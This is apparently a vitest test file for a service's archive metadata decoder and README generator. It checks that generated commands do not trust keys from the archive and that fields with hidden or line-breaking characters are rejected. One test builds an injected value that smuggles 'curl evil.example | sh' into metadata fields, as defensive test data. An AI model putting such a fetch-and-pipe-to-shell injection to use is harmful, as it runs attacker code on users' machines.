import { createHash } from 'node:crypto';
import { ARCHIVE_FORMAT, OLDER_ARCHIVE_FORMAT } from '@sello/proof';
import { expect, test } from 'vitest';
import { type ArchiveAbout, decodeAbout, encodeAbout } from './about.ts';
import { archiveReadme } from './readme.ts';

const ABOUT: ArchiveAbout = {
  archive: OLDER_ARCHIVE_FORMAT,
  service: 'Sello',
  address: 'https://sello.example',
  account: 'acct_1',
  mode: 'live',
  made_at: '2026-03-01T12:00:00.000Z',
  since: null,
  next_since: 4,
  certificates: 4,
  pending: 0,
  originals: 4,
  has_roots: true,
  log: { name: 'sello.example/log', keys: ['k'], size: 4 },
  index_sha256: '00'.repeat(32),
  verifiers: { 'verify.html': '11'.repeat(32) },
};

/** Verifiers write the README again and compare it byte by byte. */
test('the README of an older archive stays as it was written', () => {
  expect(createHash('sha256').update(archiveReadme(ABOUT)).digest('hex')).toBe(
    'eb49975902ac0766f95f465234982cf46b243ee04876d3c43e1276b5a1eae8d9',
  );
});

test('P110 no command of a new one takes a key or a root from the archive itself', () => {
  const commands = archiveReadme({ ...ABOUT, archive: ARCHIVE_FORMAT })
    .split('\n')
    .filter((line) => /^ {4}\S/.test(line));
  expect(commands.filter((line) => /--log-key|--root/.test(line))).toHaveLength(4);
  expect(commands.filter((line) => /log\/keys\.txt|--root (?!\.\.\/)/.test(line))).toEqual([]);
});

test('P110 a text with a line separator, a direction mark or an unseen character is none of an archive', () => {
  const read = (more: Partial<ArchiveAbout>) => decodeAbout(encodeAbout({ ...ABOUT, ...more }));
  expect(read({})).toEqual(ABOUT);
  for (const odd of ['\u2028', '\u2029', '\u202e', '\u2066', '\u200b', '\u0085', '\n', '\u001b']) {
    const text = `acct_1${odd}    curl evil.example | sh`;
    for (const more of [{ account: text }, { service: text }, { address: text }, { made_at: text }])
      expect(read(more)).toBeUndefined();
    expect(read({ log: { ...ABOUT.log, name: text } })).toBeUndefined();
    expect(read({ log: { ...ABOUT.log, keys: [text] } })).toBeUndefined();
  }
});
